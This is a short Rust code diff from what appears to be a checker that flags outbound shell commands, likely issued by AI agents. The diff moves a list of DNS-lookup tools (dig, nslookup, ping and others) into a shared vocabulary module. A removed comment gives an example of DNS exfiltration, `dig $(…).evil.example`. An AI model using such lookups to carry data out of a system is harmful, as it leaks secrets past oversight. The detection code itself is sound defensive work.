@@ -140,20 +140,6 @@ const MESSAGE_TOOLS: &[&str] = &[
     "mcp__*__webhook*",
 ];
 
-/// DNS lookups: a name built from data (`dig $(…).evil.example`) carries it out.
-const RESOLVERS: &[&str] = &[
-    "dig",
-    "nslookup",
-    "host",
-    "drill",
-    "delv",
-    "kdig",
-    "resolvectl",
-    "getent",
-    "ping",
-    "ping6",
-];
-
 fn glob_any(globs: &[&str], tool: &str) -> bool {
     globs
         .iter()
@@ -530,7 +516,7 @@ fn shell_outbound(
             _ => None,
         };
     }
-    if RESOLVERS.contains(&p) {
+    if crate::vocab::is_resolver(p) {
         return if c.operands().iter().any(|w| w.dynamic) {
             plain(format!("`{line}` looks up a name built from data"))
         } else {
